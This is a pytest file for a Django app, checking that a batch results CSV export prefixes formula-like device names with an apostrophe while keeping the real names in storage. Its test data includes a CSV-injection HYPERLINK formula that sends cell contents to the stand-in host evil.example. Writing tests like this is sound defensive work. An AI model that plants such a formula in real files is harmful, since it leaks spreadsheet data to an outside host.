"""results.csv is safe to open in a spreadsheet: formula prefixes are neutralised, devices keep their names."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from batches import services
from batches.models import DeviceBatch
from products.models import Device, Product
from tests.product_console import make_product

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
NAMES = ["-2-3", "dev_01", HYPERLINK, "@SUM(A1:A9)", "+1"]


def results_csv(client, batch: DeviceBatch) -> list[list[str]]:
    response = client.get(reverse("batches:batch_results", args=[batch.pk]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.getvalue())) as archive:
        return list(csv.reader(io.StringIO(archive.read("results.csv").decode(), newline="")))


def test_formula_cells_are_neutralised_and_the_device_keeps_its_real_name(signed_in_client, user):
    product = make_product(user, "sensors", auth_method=Product.AuthMethod.KEY)
    batch = services.start_batch(owner=user, product=product, kind=DeviceBatch.Kind.NAMES, names=NAMES)
    services.run_batch(batch.pk)

    lines = results_csv(signed_in_client, batch)

    assert [line[:4] for line in lines] == [
        ["row", "device_name", "source_file", "result"],
        ["1", "'-2-3", "", "created"],
        ["2", "dev_01", "", "created"],
        ["3", "'" + HYPERLINK, "", "failed"],
        ["4", "'@SUM(A1:A9)", "", "failed"],
        ["5", "'+1", "", "failed"],
    ]
    # The neutralising is the CSV's alone: the device and the stored row keep the real name.
    assert sorted(Device.objects.filter(product=product).values_list("name", flat=True)) == ["-2-3", "dev_01"]
    assert list(batch.rows.order_by("number").values_list("device_name", flat=True)) == NAMES
    page = signed_in_client.get(reverse("products:device_detail", args=[product.product_id, "-2-3"]))
    assert page.status_code == 200
